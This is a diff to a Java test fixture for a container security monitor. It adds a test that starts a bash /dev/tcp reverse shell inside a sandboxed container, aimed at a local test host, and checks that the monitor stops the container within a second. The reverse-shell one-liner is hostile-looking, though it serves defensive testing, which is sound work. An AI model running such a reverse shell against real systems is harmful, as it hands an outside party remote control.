@@ -1,10 +1,12 @@
 package coi.monitor;
 
+import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.fail;
 
 import coi.incus.ExecRequest;
 import coi.incus.IncusClient;
 import coi.incus.Model;
+import coi.network.TestHosts;
 import coi.testing.Sandbox;
 import java.io.IOException;
 import java.io.OutputStream;
@@ -44,6 +46,21 @@ final class MonitorFixtures {
         var r = incus.execCapture(container, new ExecRequest(List.of("bash", "-c", script), Map.of("HOME", uid == 0 ? "/root" : "/home/code"),
                 uid, uid, "/workspace"));
         if (r.exitCode() != 0 && r.exitCode() != 1) fail("`" + script + "` in " + container + " failed: " + r.exitCode() + " " + r.err());
+    }
+
+    /**
+     * A detached bash /dev/tcp reverse shell to the hold host as code: the monitor must stop the
+     * container within a second of the connection (printed as "monitor response: LABEL ...").
+     */
+    static void reverseShellIsStopped(IncusClient incus, TestHosts hosts, String container, String label) throws Exception {
+        TestHosts.assertRoutedLocally();
+        inside(incus, container, 1000, "setsid -f bash -c 'bash -i >& /dev/tcp/" + TestHosts.INTERNET.getFirst() + "/"
+                + TestHosts.HOLD_PORTS.getFirst() + " 0>&1'");
+        awaitGone(incus, container, 10);
+        List<Double> closed = closed(hosts.holdLog);
+        assertThat(closed).hasSize(1);
+        System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", label, closed.getFirst());
+        assertThat(closed.getFirst()).isLessThan(1.0);
     }
 
     /** Seconds each held connection lived, in the order they ended. */
